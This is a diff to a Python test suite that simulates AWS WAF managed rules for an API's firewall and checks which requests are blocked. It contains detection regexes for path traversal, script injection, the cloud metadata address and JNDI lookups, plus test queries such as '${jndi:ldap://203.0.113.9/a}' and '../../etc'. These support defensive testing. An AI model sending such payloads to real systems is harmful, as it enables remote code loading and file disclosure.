@@ -7,7 +7,7 @@ from typing import Any
 
 import pytest
 
-from infra.firewall import CALLS_PER_ADDRESS, CALLS_ROUTE, REQUESTS_PER_ADDRESS, SLACK_ROUTE
+from infra.firewall import CALLBACK_ROUTE, CALLS_PER_ADDRESS, CALLS_ROUTE, REQUESTS_PER_ADDRESS
 from infra.function_specs import SPECS
 from jitney import resources
 from jitney.adapters.aws_models import AwsModels
@@ -19,9 +19,11 @@ from tests.infra.conftest import only, plain
 pytestmark = pytest.mark.xdist_group("cdk")
 
 INSPECTED_BYTES = 65_536
-# What AWS's managed rules look for in a body, as their documentation describes it. AWS does not publish the patterns.
-# https://docs.aws.amazon.com/waf/latest/developerguide/aws-managed-rule-groups-baseline.html
-IN_BODIES = {
+LONGEST_QUERY = 2_048
+"""The limit of SizeRestrictions_QUERYSTRING, a rule of AWSManagedRulesCommonRuleSet."""
+# What AWS's managed rules look for in a body or a query, as their documentation describes it. AWS does not publish the
+# patterns. https://docs.aws.amazon.com/waf/latest/developerguide/aws-managed-rule-groups-baseline.html
+PATTERNS = {
     "AWSManagedRulesCommonRuleSet": r"\.\./\.\.|<script|on(error|load)=|https?://(\d+\.){3}\d+|169\.254\.169\.254",
     "AWSManagedRulesKnownBadInputsRuleSet": r"\$\{jndi:|java\.lang\.Runtime",
 }
@@ -32,7 +34,9 @@ class Sent:
     """A request as the firewall sees it."""
 
     path: str
-    body: bytes
+    body: bytes = b""
+    verb: str = "POST"
+    query: str = ""
 
 
 def matches(statement: dict[str, Any], sent: Sent) -> bool:
@@ -44,19 +48,27 @@ def matches(statement: dict[str, Any], sent: Sent) -> bool:
         case "AndStatement":
             return all(matches(each, sent) for each in of["Statements"])
         case "ByteMatchStatement":
-            assert (of["FieldToMatch"], of["PositionalConstraint"]) == ({"UriPath": {}}, "ENDS_WITH")
             assert [each["Type"] for each in of["TextTransformations"]] == ["NONE"]
+            if of["FieldToMatch"] == {"Method": {}}:
+                assert of["PositionalConstraint"] == "EXACTLY"
+                return sent.verb == str(of["SearchString"])
+            assert (of["FieldToMatch"], of["PositionalConstraint"]) == ({"UriPath": {}}, "ENDS_WITH")
             return sent.path.endswith(of["SearchString"])
         case "SizeConstraintStatement":
             assert (of["ComparisonOperator"], of["FieldToMatch"]) == ("GT", {"Body": {"OversizeHandling": "MATCH"}})
             return len(sent.body) > of["Size"]
         case "ManagedRuleGroupStatement":
-            inspected = sent.body[:INSPECTED_BYTES].decode()
-            found = re.search(IN_BODIES[of["Name"]], inspected, re.IGNORECASE)
-            return bool(found) and matches(of["ScopeDownStatement"], sent)
+            return like_an_attack(of["Name"], sent) and matches(of["ScopeDownStatement"], sent)
         case "RateBasedStatement":
             return False
     raise ValueError(kind)
+
+
+def like_an_attack(group: str, sent: Sent) -> bool:
+    """Return whether a group of AWS's managed rules takes a request for an attack."""
+    inspected = sent.query + sent.body[:INSPECTED_BYTES].decode()
+    is_long = "Common" in group and len(sent.query) > LONGEST_QUERY
+    return is_long or bool(re.search(PATTERNS[group], inspected, re.IGNORECASE))
 
 
 @pytest.fixture(scope="module")
@@ -99,25 +111,36 @@ def test_gw_12_the_function_takes_these_bodies(call: tuple[str, str, str, dict[s
     assert checked_parameters(parse_call(body).parameters, model, model.service_model.resolved_protocol)
 
 
-def test_gw_12_elsewhere_the_same_bodies_are_blocked(acl: dict[str, Any]):
-    """Else the rules of this test would match nothing."""
-    others = [path for spec in SPECS.values() for _, path in spec.routes if path not in (CALLS_ROUTE, SLACK_ROUTE)]
-    blocked = {name: blocking(acl, Sent(f"/live{path}", body)) for path in others for name, body in BODIES.items()}
-    rules = {rule for each in blocked.values() for rule in each}
-    assert rules == {"body-size", "AWSManagedRulesCommonRuleSet", "AWSManagedRulesKnownBadInputsRuleSet"}
-    assert sum(map(bool, blocked.values())) >= len(BODIES) - 4  # a firewall has no quarrel with plain SQL and base64
+@pytest.mark.parametrize(
+    ("verb", "path"), [each for spec in SPECS.values() for each in spec.routes if each[0] != "GET"]
+)
+def test_no_rule_blocks_text_of_agents_and_people(acl: dict[str, Any], verb: str, path: str):
+    """Reasons and comments name addresses, paths and markup. Slack sends the message along with a vote (row REV 9)."""
+    text = "".join(body.decode() for body in BODIES.values() if len(body) < 2000).encode()
+    assert all(like_an_attack(group, Sent(path, text)) for group in PATTERNS)
+    assert blocking(acl, Sent(f"/live{path}", text, verb)) == []
+    assert blocking(acl, Sent(f"/live{path}", text * 20, verb)) == ([] if path == CALLS_ROUTE else ["body-size"])
+
+
+def test_the_managed_rules_inspect_queries(acl: dict[str, Any]):
+    for group, text in {
+        "AWSManagedRulesCommonRuleSet": "view=../../etc",
+        "AWSManagedRulesKnownBadInputsRuleSet": "view=${jndi:ldap://203.0.113.9/a}",
+    }.items():
+        assert blocking(acl, Sent("/live/reviews", verb="GET", query=text)) == [group]
+
+
+def test_no_rule_blocks_a_return_from_an_identity_provider(acl: dict[str, Any]):
+    """Entra's codes alone may be longer than the longest query: https://github.com/IBM/mcp-context-forge/issues/4490"""
+    query = f"code={'x' * LONGEST_QUERY}&error_description=http://203.0.113.9/help"
+    assert blocking(acl, Sent("/live/reviews", verb="GET", query=query)) == ["AWSManagedRulesCommonRuleSet"]
+    assert blocking(acl, Sent(f"/live{CALLBACK_ROUTE}", verb="GET", query=query)) == []
+    assert ("GET", CALLBACK_ROUTE) in SPECS["sign_in"].routes
 
 
 @pytest.mark.parametrize("path", ["/live/v1/calls%2f", "/live/v1%2fcalls", "/live/v1/calls/c-aaaaaaaaaaaaaa"])
 def test_gw_12_only_the_route_itself_is_excepted(acl: dict[str, Any], path: str):
     assert blocking(acl, Sent(path, b"a" * (INSPECTED_BYTES + 1))) == ["body-size"]
-
-
-def test_rev_09_text_in_a_slack_message_does_not_block_its_reviewers(acl: dict[str, Any]):
-    """Slack sends the message with a vote. An agent can put words into a reason that AWS's rules match."""
-    text = "".join(body.decode() for body in BODIES.values() if len(body) < 2000).encode()
-    assert blocking(acl, Sent(f"/live{SLACK_ROUTE}", text)) == []
-    assert blocking(acl, Sent(f"/live{SLACK_ROUTE}", text * 20)) == ["body-size"]
 
 
 def test_the_web_acl_limits_size_and_rate_and_is_in_front_of_the_api(acl: dict[str, Any], assembly):
